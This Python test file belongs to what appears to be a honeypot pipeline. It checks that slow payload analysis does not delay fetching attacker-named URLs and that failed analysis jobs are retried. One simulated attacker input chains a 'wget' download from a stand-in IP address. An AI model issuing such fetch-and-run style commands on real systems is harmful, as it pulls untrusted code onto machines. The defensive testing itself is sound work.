"""What an attacker names is asked for at once: nothing slow stands in its way."""

from __future__ import annotations

import threading

import pytest
from tests.pipeline.conftest import EXAMINER, Bench

from urltrap.pipeline.analysing import AnalyseStage
from urltrap.pipeline.laboratory.bench import Looked
from urltrap.pipeline.line import Line
from urltrap.pipeline.recovering import RecoverStage
from urltrap.pipeline.stages import stages
from urltrap.recover.execution.stage import image
from urltrap.store import work


class SlowExaminer:
    """Looks at a payload only when it is let."""

    def __init__(self, trouble: Exception | None = None) -> None:
        self.version = EXAMINER.version
        self.let, self.begun = threading.Event(), threading.Event()
        self.looked = 0
        self.trouble = trouble

    def examine(self, data: bytes, size: int, sha256: str) -> Looked:
        self.begun.set()
        self.looked += 1
        assert self.let.wait(30)
        if self.trouble is not None:
            raise self.trouble
        return EXAMINER.examine(data, size, sha256)

    def close(self) -> None:
        """There is no process."""


def beside(bench: Bench, examiner: SlowExaminer) -> AnalyseStage:
    """The line of a bench as a running pipeline has it; its stage that looks at payloads."""
    bench.workshop.laboratory = examiner
    parts = stages(apart=True)
    bench.line = Line(bench.workshop, bench.reader, parts)
    return next(part for part in parts if isinstance(part, AnalyseStage))


def test_the_recovery_machine_stands_before_the_first_attacker_comes() -> None:
    image.cache_clear()
    RecoverStage()
    assert image.cache_info().currsize == 1


def test_a_payload_that_takes_long_holds_no_request_up(bench: Bench) -> None:
    examiner = SlowExaminer()
    stage = beside(bench, examiner)
    bench.visit(uploads=[b"#!/bin/sh\necho slow\n"])
    bench.line.drain()
    assert examiner.begun.wait(20)
    bench.fetcher.bodies["http://198.51.100.9/a"] = b"#!/bin/sh\n"
    bench.visit(b"nosuchprogram http://198.51.100.9/a && wget http://198.51.100.9/a")
    bench.settle()
    assert b"http://198.51.100.9/a" in [request.url for request in bench.fetcher.requests]
    examiner.let.set()
    for future in stage.waiting():
        future.result(20)
    bench.line.drain()
    assert examiner.looked >= 1
    assert not work.due(bench.store, "analyse", bench.time, 10)


@pytest.mark.parametrize("trouble", [None, RuntimeError("no process")])
def test_a_look_that_ends_later_ends_its_jobs_or_has_them_tried_again(
    bench: Bench, trouble: Exception | None
) -> None:
    examiner = SlowExaminer(trouble)
    stage = beside(bench, examiner)
    body = b"#!/bin/sh\necho twice\n"
    bench.visit(uploads=[body])
    bench.visit(uploads=[body])
    bench.line.drain()
    assert not work.due(bench.store, "analyse", bench.time, 10), "lent out while it is being looked at"
    examiner.let.set()
    for future in stage.waiting():
        future.exception(20)
    bench.line.drain()
    assert examiner.looked == 1
    with bench.store.connect() as connection:
        left = connection.exec_driver_sql("SELECT error FROM jobs WHERE stage = 'analyse'").scalars().all()
    # Its two visits, and the round that looks at everything again for the rules in use.
    assert all(left) and bool(left) == (trouble is not None)
